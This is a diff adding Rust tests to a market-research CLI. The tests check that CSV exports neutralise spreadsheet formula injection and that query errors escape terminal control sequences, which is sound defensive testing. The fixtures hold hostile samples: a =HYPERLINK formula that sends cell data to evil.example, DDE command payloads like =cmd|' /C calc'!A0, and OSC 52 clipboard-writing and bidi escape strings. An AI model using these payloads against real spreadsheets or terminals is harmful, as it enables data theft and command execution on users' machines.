@@ -189,6 +189,160 @@ fn hostile_kb_reaches_no_output_raw() {
     run(&["check"], "check");
 }
 
+/// KB text a spreadsheet would run as a formula (`=HYPERLINK(…)`, `=cmd|' /C calc'!A0`, `@…`,
+/// `+…`, `-…`) reaches no CSV export as a formula: such a cell starts with `'` and is quoted,
+/// on every tab, every record and the search results; plain negative numbers stay numbers.
+#[test]
+fn csv_exports_neutralise_formulas_and_keep_negative_numbers() {
+    let dir = tempfile::tempdir().unwrap();
+    let kb = dir.path().join("kb.toml");
+    std::fs::write(
+        &kb,
+        r#"
+[[source]]
+id = "s"
+title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+publisher = "@SUM(1+1)*cmd|' /C calc'!A0"
+date = 2025-09-11
+
+[[vendor]]
+id = "v"
+name = "=cmd|' /C calc'!A0"
+name_en = "+1+cmd|' /C calc'!A0"
+segments = ["-2+3", "@x"]
+sources = ["s"]
+
+[[executive]]
+id = "e"
+name = "@exec"
+title = "-1+1"
+vendor = "v"
+sources = ["s"]
+
+[[deal]]
+id = "d"
+title = "	=1+1 after a tab"
+kind = "order"
+vendors = ["v"]
+date = "2025-Q2"
+summary = "-cmd"
+sources = ["s"]
+
+[[series]]
+id = "g"
+name = "=2*3"
+vendor = "v"
+metric = "growth"
+unit = "%"
+sources = ["s"]
+points = [ { period = "2025-Q1", value = -12 }, { period = "2025-Q2", value = -3.5 } ]
+"#,
+    )
+    .unwrap();
+    let kb = kb.to_str().unwrap();
+    let mut csvs = Vec::new();
+    for tab in ["vendors", "executives", "deals", "trends", "sources"] {
+        csvs.push((
+            tab.to_string(),
+            marketlens(&["--kb", kb, "export", "--tab", tab, "--format", "csv"]),
+        ));
+    }
+    for id in ["s", "v", "e", "d", "g"] {
+        csvs.push((
+            id.to_string(),
+            marketlens(&["--kb", kb, "export", "--record", id, "--format", "csv"]),
+        ));
+    }
+    csvs.push((
+        "search".into(),
+        marketlens(&["--kb", kb, "search", "", "--format", "csv"]),
+    ));
+    let mut neutralised = 0;
+    for (what, o) in &csvs {
+        assert!(o.status.success(), "{what}: {}", stderr(o));
+        let out = stdout(o);
+        for rec in csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(out.as_bytes())
+            .records()
+        {
+            for cell in rec.unwrap().iter() {
+                let risky = cell.trim_start().starts_with(['=', '+', '-', '@', '\t', '\r']);
+                let number = cell
+                    .trim_start_matches(['-', '+'])
+                    .trim_end_matches('%')
+                    .parse::<f64>()
+                    .is_ok();
+                assert!(!risky || number, "{what}: formula cell {cell:?} in\n{out}");
+                if cell.starts_with('\'') {
+                    neutralised += 1;
+                    assert!(
+                        out.contains(&format!("\"{}", cell.replace('"', "\"\""))),
+                        "{what}: unquoted {cell:?}"
+                    );
+                }
+            }
+        }
+    }
+    assert!(neutralised >= 10, "{neutralised}");
+    let series = stdout(&csvs[9].1);
+    assert!(
+        series.contains("\n2025-Q1,-12%\n") || series.contains("\n2025-Q1,-12\n"),
+        "{series}"
+    );
+    assert!(series.contains("'=2*3"), "{series}");
+}
+
+/// A query's error quotes the query: every filter's error, on `search` and `export --query`,
+/// shows hostile input escaped (`\u{1b}]52;…`), never raw, with the caret under its column as
+/// shown.
+#[test]
+fn hostile_query_errors_are_escaped() {
+    let payloads = [
+        "\x1b]52;c;cHduZWQ=\x07",
+        "\x1b[2J\u{9b}31m",
+        "\u{202e}x\u{2066}",
+        "\u{200b}\u{feff}\u{7f}",
+    ];
+    for filter in [
+        "kind:", "year:", "period:", "metric:", "value>", "amount>", "vendor:", "source:", "nope:",
+    ] {
+        for p in payloads {
+            let q = format!("{filter}{p}");
+            for args in [
+                vec!["search", q.as_str()],
+                vec!["export", "--tab", "deals", "--query", q.as_str()],
+            ] {
+                let o = marketlens(&args);
+                let what = format!("{args:?}");
+                assert_eq!(o.status.code(), Some(1), "{what}: {}", stderr(&o));
+                common::assert_inert_bytes(&o.stderr, true, &what);
+                let err = stderr(&o);
+                assert!(err.starts_with("error: bad query: column "), "{what}: {err}");
+                // The query line and the caret under the start of the filter's value.
+                let lines: Vec<&str> = err.lines().collect();
+                let shown = lines[1].strip_prefix("  ").unwrap();
+                assert!(
+                    shown.starts_with(filter) && shown.contains("\\u{"),
+                    "{what}: {err}"
+                );
+                let caret = lines[2].find('^').unwrap() - 2;
+                let col: usize = lines[0]["error: bad query: column ".len()..]
+                    .split(':')
+                    .next()
+                    .and_then(|c| c.parse().ok())
+                    .unwrap();
+                let before: String = q.chars().take(col - 1).collect();
+                assert_eq!(
+                    caret,
+                    marketlens::text::width(&marketlens::text::escape_controls(&before)),
+                    "{what}: {err}"
+                );
+            }
+        }
+    }
+}
+
 #[test]
 fn never_clobbers_without_force_and_io_failures_exit_2() {
     let dir = tempfile::tempdir().unwrap();
